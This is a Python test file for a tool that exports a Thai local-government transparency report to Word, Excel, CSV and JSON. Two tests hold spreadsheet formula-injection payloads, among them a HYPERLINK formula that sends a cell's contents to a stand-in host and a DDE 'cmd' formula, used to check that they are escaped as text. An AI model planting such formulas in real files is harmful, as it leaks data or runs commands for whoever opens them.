"""The report's files opened again: what Word, Excel, a spreadsheet's import and a machine find in them."""

import csv
import io
import json
from datetime import date, datetime
from pathlib import Path

import docx
import openpyxl
import pytest
from docx.oxml.ns import qn
from docx.shared import Cm
from jsonschema import Draft202012Validator
from PIL import Image
from sqlalchemy import Engine

from models.thaitext import squeeze
from tasks.plan.read_text import parse_text
from tasks.plan.reading import read
from tasks.plan.sources import load
from tasks.reports.report import FORMATS
from tasks.reports.safe import as_text
from tasks.reports.sheet_rows import _portions, page_ends
from tests.reported import YEAR, ReportedYear, open_year, sample

pytestmark = pytest.mark.one_database
SCHEMA = json.loads((Path(__file__).parent.parent / "docs" / "report.schema.json").read_text(encoding="utf-8"))
PLAN = """มาตรการส่งเสริมความโปร่งใส องค์การบริหารส่วนตำบลตัวอย่าง ประจำปีงบประมาณ พ.ศ. 2570

ประเด็น\tผู้รับผิดชอบ\tขั้นตอน\tการกำกับติดตาม\tสรุปผล\tผลลัพธ์
O13 แผนการจัดซื้อจัดจ้าง\tกองคลัง\tจัดทำแผน\tรายงานภายในเดือนธันวาคมของทุกปี\t\t
E1 การเปิดเผยข้อมูล\tสำนักปลัด\tเผยแพร่ข้อมูล\tรายงานผู้บริหารไตรมาสละ 1 ครั้ง\t\t
"""
WHEN = date(2026, 12, 20)


@pytest.fixture
def year(engine: Engine) -> ReportedYear:
    return open_year(engine, parse_text(PLAN))


def file_of(year: ReportedYear, style: str, pictures: dict[int, bytes] | None = None) -> bytes:
    return FORMATS[style].write(year.report(), pictures or {})


def word_of(year: ReportedYear, pictures: dict[int, bytes] | None = None):
    return docx.Document(io.BytesIO(file_of(year, "docx", pictures)))


def book_of(year: ReportedYear) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(file_of(year, "xlsx")))


def rows_of(year: ReportedYear) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file_of(year, "csv").decode("utf-8-sig"), newline="")))


def test_every_run_of_word_names_a_thai_font_its_size_and_its_language(year: ReportedYear):
    year.live()
    runs = list(word_of(year).element.body.iter(qn("w:r")))
    assert len(runs) > 30
    for run in runs:
        if run.find(qn("w:t")) is None:
            continue
        properties = run.find(qn("w:rPr"))
        fonts = properties.find(qn("w:rFonts"))
        assert {fonts.get(qn(f"w:{kind}")) for kind in ("ascii", "hAnsi", "cs", "eastAsia")} == {"TH Sarabun New"}
        assert properties.find(qn("w:szCs")).get(qn("w:val")) == properties.find(qn("w:sz")).get(qn("w:val"))
        assert properties.find(qn("w:lang")).get(qn("w:bidi")) == "th-TH"


def test_the_heading_is_printed_on_every_page_and_a_short_row_is_never_cut(year: ReportedYear):
    year.live()
    report = word_of(year).tables[-1]._tbl
    first, *others = report.findall(qn("w:tr"))
    assert first.find(f"{qn('w:trPr')}/{qn('w:tblHeader')}") is not None
    assert all(row.find(f"{qn('w:trPr')}/{qn('w:tblHeader')}") is None for row in others)
    assert all(row.find(f"{qn('w:trPr')}/{qn('w:cantSplit')}") is not None for row in others)


def test_a_wide_table_lies_across_the_page_and_its_columns_fill_it(year: ReportedYear):
    year.live()
    section = word_of(year).sections[-1]
    assert section.page_width > section.page_height
    grid = word_of(year).tables[-1]._tbl.find(qn("w:tblGrid"))
    breadth = sum(int(column.get(qn("w:w"))) for column in grid)
    page = (section.page_width - section.left_margin - section.right_margin) // 635  # twentieths of a point
    assert page - 10 <= breadth <= page


@pytest.mark.parametrize(("digits", "asked"), [("thai", "PAGE \\* THAIARABIC"), ("arabic", "PAGE")])
def test_pages_are_numbered_in_the_digits_of_the_source(engine: Engine, digits: str, asked: str):
    year = open_year(engine, sample("two_score_bands" if digits == "thai" else "grouped_report"))
    year.live()
    document = word_of(year)
    footers = "".join(
        section.footer._element.xml for section in document.sections if not section.footer.is_linked_to_previous
    )
    assert f'<w:instrText xml:space="preserve"> {asked} </w:instrText>' in footers
    assert document.sections[0].footer.paragraphs[0].text == ""  # the check sheet is no page of the report


def test_a_cell_merged_in_the_source_is_merged_again(engine: Engine):
    year = open_year(engine, sample("analysis_and_plan"))
    year.live()
    merges = [m.get(qn("w:val")) for m in word_of(year).tables[-1]._tbl.iter(qn("w:vMerge"))]
    assert merges == ["restart", *["continue"] * 3, "restart", *["continue"] * 2]
    sheet = book_of(year)["รายงาน"]
    down = [r for r in sheet.merged_cells.ranges if r.max_row > r.min_row]
    assert sorted((r.max_row - r.min_row, r.min_col) for r in down) == [(2, 4), (3, 4)]


def test_a_photo_is_shown_upright_and_small_and_a_broken_one_is_told_by_words(year: ReportedYear, tmp_path: Path):
    one = year.of("O13")
    year.finish(one, WHEN)
    raw = io.BytesIO()
    Image.new("RGB", (3000, 1500), "green").save(raw, "PNG")
    ids = [year.photo(one, f"รูปที่ {n}.png", WHEN) for n in (1, 2)]
    document = word_of(year, {ids[0]: raw.getvalue(), ids[1]: b"no picture"})
    (shown,) = document.inline_shapes
    assert (shown.width, shown.height) == (Cm(9), Cm(4.5))
    (part,) = [p for p in document.part.package.iter_parts() if p.partname.startswith("/word/media/")]
    assert len(part.blob) < 60_000
    words = "\n".join(paragraph.text for paragraph in document.paragraphs)
    assert all(name in words for name in ("รูปที่ 1.png", "รูปที่ 2.png"))


def test_what_looks_like_a_formula_stays_text(year: ReportedYear):
    one = year.of("O13")
    year.finish(one, WHEN)
    year.answer(one, "outcome", '=HYPERLINK("http://bad.example","กด")', WHEN)
    sheet = book_of(year)["รายงาน"]
    cell = next(c for row in sheet.iter_rows() for c in row if "HYPERLINK" in str(c.value))
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert rows_of(year)[1][5] == '\'=HYPERLINK("http://bad.example","กด")'


def test_a_letter_no_file_can_hold_is_left_out(year: ReportedYear):
    one = year.of("O13")
    year.finish(one, WHEN)
    year.answer(one, "outcome", "ลง\x0bเว็บ\x00แล้ว", WHEN)
    assert "ลงเว็บแล้ว" in "".join(cell.text for cell in word_of(year).tables[-1].rows[1].cells)
    assert rows_of(year)[1][5] == "ลงเว็บแล้ว"
    assert book_of(year)["รายงาน"].max_row > 3


def test_a_workbook_is_ready_to_print(year: ReportedYear):
    year.live()
    book = book_of(year)
    assert book.sheetnames == ["ใบตรวจ", "รายงาน", "หลักฐาน"]
    sheet = book["รายงาน"]
    assert book.active.title == "รายงาน"
    assert (sheet.page_setup.orientation, sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (
        "landscape",
        1,
        0,
    )
    heading = next(c.row for c in sheet["A"] if c.value == "ประเด็น")
    assert sheet.print_title_rows == f"${heading}:${heading}"
    assert all(c.alignment.wrap_text for row in sheet.iter_rows(min_row=heading) for c in row if c.value)
    assert all(
        sheet.row_dimensions[n].height <= 409 for n in range(1, sheet.max_row + 1) if sheet.row_dimensions[n].height
    )


@pytest.mark.parametrize(
    "words",
    ['-ก+HYPERLINK("http://x.example/?"&A1)', "- 2+3+cmd|' /C calc'!A0", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"],
)
def test_what_a_spreadsheet_would_run_is_text_even_as_a_list(words: str):
    assert as_text(words) == "'" + words


@pytest.mark.parametrize("words", ["- ประชุมชี้แจง", "-ติดตามผล + รายงาน", "-", "--", "ดำเนินการแล้ว = 3 ครั้ง"])
def test_a_list_with_dashes_stays_as_it_is_read(words: str):
    assert as_text(words) == words


def test_csv_has_the_sources_columns_in_their_order(engine: Engine):
    year = open_year(engine, sample("two_score_bands"))
    year.live()
    heading, *rows = rows_of(year)
    assert heading == [
        *("หมวด", "ข้อคำถาม", "ผลคะแนน", "ข้อค้นพบ", "มาตรการที่ดำเนินการ", "หน่วยงานรับผิดชอบ"),
        *("แนวทางกำกับติดตาม/รายงานผล", "สรุปผลการดำเนินการตามมาตรการ", "ผลลัพธ์/ความสำเร็จ"),
    ]
    assert [row[0][0] for row in rows] == ["๑", "๑", "๑", "๑", "๒"]
    assert {len(row) for row in rows} == {9}


def test_what_a_machine_reads_keeps_the_schema(year: ReportedYear):
    one = year.of("O13")
    year.say(one, "รอใบเสนอราคา", date(2026, 12, 1), obstacle="รอใบเสนอราคา")
    year.finish(one, WHEN)
    year.answer(one, "result", "จัดทำแผน 12 รายการ", WHEN)
    year.link(one, "https://www.example.go.th/o13", WHEN)
    year.publish(one, date(2026, 12, 21))
    document = json.loads(file_of(year, "json"))
    Draft202012Validator(SCHEMA, format_checker=Draft202012Validator.FORMAT_CHECKER).validate(document)
    assert set(document) == set(SCHEMA["properties"])
    share = document["measures"][0]["duties"][0]
    assert set(share) == set(SCHEMA["properties"]["measures"]["items"]["properties"]["duties"]["items"]["properties"])
    assert (share["status"], share["completed_on"], share["in_time"], share["published_on"]) == (
        *("completed", "2026-12-20", True, "2026-12-21"),
    )
    assert share["answers"] == [{"element": "result", "label": "สรุปผล", "words": "จัดทำแผน 12 รายการ"}]
    assert (share["obstacles"], share["lacks"]) == (["รอใบเสนอราคา"], ["ผลลัพธ์"])
    assert share["evidence"][0]["url"] == "https://www.example.go.th/o13"
    assert datetime.fromisoformat(share["evidence"][0]["sent_at"]).utcoffset() is not None
    assert document["figures"]["total"] == 5


def test_a_row_too_high_for_excel_goes_on_below_and_no_word_is_lost(year: ReportedYear, tmp_path: Path):
    one = year.of("O13")
    year.finish(one, WHEN)
    lines = [f"โครงการที่ {n} จัดซื้อครุภัณฑ์ตามแผนและตรวจรับเรียบร้อยแล้ว" for n in range(1, 61)]
    year.answer(one, "result", "\n".join(lines), WHEN)
    year.answer(one, "outcome", " ".join(["คำยาวในบรรทัดเดียว"] * 120), WHEN)
    sheet = book_of(year)["รายงาน"]
    first = next(c.row for c in sheet["A"] if str(c.value).startswith("O13"))
    following = next(c.row for c in sheet["A"] if str(c.value).startswith("E1"))
    assert following - first > 2
    printed = [str(sheet.cell(n, 5).value or "") for n in range(first, following)]
    assert squeeze("".join(lines)) in squeeze("".join(printed))
    assert max(len(part) for part in printed) < 2000
    (tmp_path / "report.xlsx").write_bytes(file_of(year, "xlsx"))
    again = read(load(tmp_path / "report.xlsx"), YEAR).measures
    assert [measure.codes for measure in again] == [("O13",), ("E1",)]
    assert squeeze("".join(lines)) in squeeze(again[0].result or "")
    assert squeeze(again[0].outcome or "") == squeeze("คำยาวในบรรทัดเดียว" * 120)


def test_no_tables_heading_is_left_behind_at_the_end_of_a_printed_page():
    assert page_ends([100, 300, 30, 30, 60], [(0, 1), (2, 4)]) == [1]
    assert page_ends([100, 200, 30, 30, 60], [(0, 1), (2, 4)]) == []
    assert page_ends([100, 300, 200, 30, 60], [(0, 1), (3, 4)]) == []


def test_a_photo_stays_on_the_page_of_its_words(year: ReportedYear):
    one = year.of("O13")
    year.finish(one, WHEN)
    raw = io.BytesIO()
    Image.new("RGB", (30, 15), "green").save(raw, "PNG")
    number = year.photo(one, "ประชุม.png", WHEN)
    paragraphs = word_of(year, {number: raw.getvalue()}).paragraphs
    at = next(n for n, one in enumerate(paragraphs) if one.text == "ประชุม.png")
    shown = next(n for n, one in enumerate(paragraphs) if one._p.findall(f".//{qn('w:drawing')}"))
    assert [one.paragraph_format.keep_with_next for one in paragraphs[at - 1 : shown]] == [True] * (shown - at + 1)


def test_a_line_without_blanks_is_cut_before_no_mark():
    text = "ที่นี่ก็มีผู้รู้" * 200
    for width in range(8, 60):
        portions = _portions(text, width)
        assert "".join(portions).replace("\n", "") == text
        assert not [part for part in portions if part[0] in "ัิีึืฺุู็่้๊๋์ํ๎"]
